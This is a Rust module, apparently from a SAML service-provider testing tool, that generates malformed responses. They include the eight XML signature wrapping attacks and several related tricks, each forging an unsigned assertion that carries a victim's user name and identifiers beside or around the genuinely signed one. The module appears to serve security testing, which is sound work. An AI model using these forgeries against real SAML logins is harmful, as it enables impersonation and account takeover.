//! The genuine assertion is still there, but something else is what a careless reader finds (Somorovsky and others, "On
//! Breaking SAML", 2012: the eight kinds of signature wrapping).

use super::{Stage, Wrong, wrong};
use crate::idp::plan::{common, id, identity};
use crate::saml::build::new;
use crate::saml::tree::{Element, Node};
use crate::saml::{ASSERTION, PROTOCOL, SIGNATURE};
use crate::settings::Signs;

/// The assertion in a response, and where it stands.
fn genuine(response: &Element) -> Option<(usize, Element)> {
    let place = response.position("Assertion")?;
    match response.children.get(place)? {
        Node::Element(element) => Some((place, element.clone())),
        _ => None,
    }
}

/// The assertion as the attacker wants it: another id, the victim's names, no signature.
fn forged(genuine: &Element, stage: &Stage) -> Element {
    let mut forged = genuine.clone();
    forged.take("Signature");
    forged.set("ID", &id());
    claim(&mut forged, stage);
    forged
}

/// Puts the victim's names in.
fn claim(assertion: &mut Element, stage: &Stage) {
    let text = |value: &str| vec![Node::Text(value.to_owned())];
    let victim = &stage.victim;
    if let Some(name) = assertion
        .first_mut("Subject")
        .and_then(|subject| subject.first_mut("NameID"))
    {
        name.children = text(&victim.upn);
    }
    let Some(statement) = assertion.first_mut("AttributeStatement") else {
        return;
    };
    let values = [
        (identity("objectidentifier"), victim.id.as_str()),
        (identity("displayname"), victim.name.as_str()),
        (common("name"), victim.upn.as_str()),
        (common("emailaddress"), victim.upn.as_str()),
    ];
    for one in statement.elements_mut() {
        let name = one.attribute("Name").unwrap_or_default().to_owned();
        let value = values.iter().find(|(known, _)| *known == name);
        if let (Some((_, value)), Some(holder)) = (value, one.first_mut("AttributeValue")) {
            holder.children = text(value);
        }
    }
}

/// The response as the attacker wants it, and the genuine one, each without a signature, and the signature.
fn responses(response: &Element, stage: &Stage) -> Option<(Element, Element, Element)> {
    let mut original = response.clone();
    let signature = original.take("Signature")?;
    let mut other = original.clone();
    other.set("ID", &id());
    let assertion = other.first_mut("Assertion")?;
    assertion.set("ID", &id());
    claim(assertion, stage);
    Some((other, original, signature))
}

/// An element in a namespace, with its default declared.
fn within(space: &str, name: &str) -> Element {
    let mut element = new(name);
    space.clone_into(&mut element.space);
    element
}

pub(super) const ALL: &[Wrong] = &[
    wrong(
        "xsw_1",
        "a forged response around the genuine one, which stands in its signature",
    )
    .signs(Signs::Response)
    .tree(|response, stage| {
        if let Some((mut other, original, mut signature)) = responses(response, stage) {
            signature.children.push(Node::Element(original));
            other.children.insert(1, Node::Element(signature));
            *response = other;
        }
    }),
    wrong(
        "xsw_2",
        "a forged response around the genuine one, which stands beside its signature",
    )
    .signs(Signs::Response)
    .tree(|response, stage| {
        if let Some((mut other, original, signature)) = responses(response, stage) {
            other.children.insert(1, Node::Element(original));
            other.children.insert(2, Node::Element(signature));
            *response = other;
        }
    }),
    wrong("xsw_3", "a forged assertion before the genuine one").tree(|response, stage| {
        if let Some((place, genuine)) = genuine(response) {
            response
                .children
                .insert(place, Node::Element(forged(&genuine, stage)));
        }
    }),
    wrong("xsw_4", "a forged assertion around the genuine one").tree(|response, stage| {
        if let Some((place, genuine)) = genuine(response) {
            let mut other = forged(&genuine, stage);
            other.children.push(Node::Element(genuine));
            response.children.splice(place..=place, [Node::Element(other)]);
        }
    }),
    wrong(
        "xsw_5",
        "the signature in a forged assertion, the genuine one without it at the end",
    )
    .tree(|response, stage| {
        if let Some((place, mut genuine)) = genuine(response) {
            let mut other = forged(&genuine, stage);
            if let Some(signature) = genuine.take("Signature") {
                other.children.insert(1, Node::Element(signature));
            }
            response.children.splice(place..=place, [Node::Element(other)]);
            response.children.push(Node::Element(genuine));
        }
    }),
    wrong(
        "xsw_6",
        "the signature in a forged assertion, the genuine one inside the signature",
    )
    .tree(|response, stage| {
        if let Some((place, mut genuine)) = genuine(response) {
            let mut other = forged(&genuine, stage);
            if let Some(mut signature) = genuine.take("Signature") {
                signature.children.push(Node::Element(genuine));
                other.children.insert(1, Node::Element(signature));
            }
            response.children.splice(place..=place, [Node::Element(other)]);
        }
    }),
    wrong(
        "xsw_7",
        "a forged assertion among extensions, before the genuine one",
    )
    .tree(|response, stage| {
        if let Some((place, genuine)) = genuine(response) {
            let mut extensions = within(PROTOCOL, "samlp:Extensions");
            extensions.children.push(Node::Element(forged(&genuine, stage)));
            response.children.insert(place, Node::Element(extensions));
        }
    }),
    wrong(
        "xsw_8",
        "the signature in a forged assertion, the genuine one in an object inside the signature",
    )
    .tree(|response, stage| {
        if let Some((place, mut genuine)) = genuine(response) {
            let mut other = forged(&genuine, stage);
            if let Some(mut signature) = genuine.take("Signature") {
                let mut object = within(SIGNATURE, "Object");
                object.children.push(Node::Element(genuine));
                signature.children.push(Node::Element(object));
                other.children.insert(1, Node::Element(signature));
            }
            response.children.splice(place..=place, [Node::Element(other)]);
        }
    }),
    wrong(
        "same_id_before",
        "a forged assertion with the genuine one's id before it",
    )
    .tree(|response, stage| {
        if let Some((place, genuine)) = genuine(response) {
            let mut other = forged(&genuine, stage);
            other.set("ID", genuine.attribute("ID").unwrap_or_default());
            response.children.insert(place, Node::Element(other));
        }
    }),
    wrong(
        "forged_assertion_after",
        "a forged assertion after the genuine one",
    )
    .tree(|response, stage| {
        if let Some((_, genuine)) = genuine(response) {
            response.children.push(Node::Element(forged(&genuine, stage)));
        }
    }),
    wrong("two_assertions", "two rightly signed assertions").draft(|response, stage| {
        if let Some((_, genuine)) = genuine(response) {
            response.children.push(Node::Element(forged(&genuine, stage)));
        }
    }),
    wrong(
        "assertion_in_attribute",
        "a forged assertion as the value of a claim",
    )
    .draft(|response, stage| {
        let Some((_, genuine)) = genuine(response) else {
            return;
        };
        let statement = response
            .first_mut("Assertion")
            .and_then(|one| one.first_mut("AttributeStatement"));
        if let Some(statement) = statement {
            let mut value = within(ASSERTION, "AttributeValue");
            value.children.push(Node::Element(forged(&genuine, stage)));
            let mut attribute = within(ASSERTION, "Attribute");
            attribute.set("Name", "urn:example:nested");
            attribute.children.push(Node::Element(value));
            statement.children.push(Node::Element(attribute));
        }
    }),
    wrong(
        "encrypted_assertion",
        "an encrypted assertion in place of the plain one",
    )
    .tree(|response, _| {
        response.take("Assertion");
        response.children.push(Node::Element(encrypted()));
    }),
    wrong("encrypted_beside", "an encrypted assertion beside the plain one").tree(|response, _| {
        response.children.push(Node::Element(encrypted()));
    }),
    wrong("no_assertion", "a success without an assertion").tree(|response, _| {
        response.take("Assertion");
    }),
    wrong("namespaced_id", "a second id with a prefix beside the signed one").tree(|response, _| {
        if let Some(assertion) = response.first_mut("Assertion") {
            let own = assertion.attribute("ID").unwrap_or_default().to_owned();
            assertion.set("ID", &id());
            assertion.set("samlp:ID", &own);
        }
    }),
];

/// What an encrypted assertion looks like; nobody can read it.
fn encrypted() -> Element {
    let cipher = new("CipherData").child(new("CipherValue").holding("QUJDREVGR0hJSktMTU5PUA=="));
    let method = new("EncryptionMethod").with("Algorithm", "http://www.w3.org/2001/04/xmlenc#aes256-cbc");
    let data = new("EncryptedData")
        .with("Type", "http://www.w3.org/2001/04/xmlenc#Element")
        .space("", "http://www.w3.org/2001/04/xmlenc#")
        .child(method)
        .child(cipher);
    new("EncryptedAssertion").space("", ASSERTION).child(data)
}
